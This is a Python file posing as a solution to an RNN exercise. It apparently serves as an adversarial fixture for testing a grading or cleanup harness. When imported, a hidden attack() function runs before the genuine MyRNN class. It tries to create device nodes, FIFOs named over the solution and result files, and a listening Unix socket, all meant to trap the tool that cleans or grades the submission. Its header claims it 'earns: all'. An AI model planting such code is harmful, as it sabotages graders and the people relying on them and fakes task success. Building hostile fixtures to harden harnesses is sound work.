# does: leaves FIFOs, sockets and device nodes that a careless cleaner would open
# earns: all
import os
import socket
import stat

import torch
from torch import nn

def attempt(what, action):
    try:
        print(what, action())
    except Exception as error:
        print(what, "failed:", error)

SPECIAL = {
    "null": (stat.S_IFCHR, 1, 3),
    "zero": (stat.S_IFCHR, 1, 5),
    "tty": (stat.S_IFCHR, 5, 0),
    "loop": (stat.S_IFBLK, 7, 0),
    "whiteout": (stat.S_IFCHR, 0, 0),
    "pipe": (stat.S_IFIFO, 0, 0),
    "socket": (stat.S_IFSOCK, 0, 0),
}
KEPT = []


def bound(name):
    KEPT.append(socket.socket(socket.AF_UNIX))
    KEPT[-1].bind(name)
    KEPT[-1].listen()


def attack():
    attempt("folder:", lambda: os.mkdir("special"))
    for name, (kind, major, minor) in SPECIAL.items():
        device = os.makedev(major, minor)
        for mode in (kind | 0o777, kind):
            path = f"special/{name}-{mode:o}"
            attempt(path, lambda p=path, m=mode, d=device: os.mknod(p, m, d))
    for name in ("ex1_my_rnn.py", "result.json", "special/pipe"):
        attempt(name, lambda name=name: os.mkfifo(name, 0o600))
    attempt("bound socket:", lambda: bound("special/bound"))

DONE = attack()

class MyRNN(nn.Module):
    def __init__(self, input_size, hidden_size):
        super().__init__()
        self.read = nn.Linear(input_size, hidden_size)
        self.carry = nn.Linear(hidden_size, hidden_size, bias=False)

    def forward(self, x, h_0=None):
        driven = self.read(x)
        state = torch.zeros_like(driven[:, 0]) if h_0 is None else h_0[0]
        history = []
        for now in driven.unbind(1):
            state = torch.tanh(now + self.carry(state))
            history.append(state)
        return torch.stack(history, dim=1), state.unsqueeze(0)
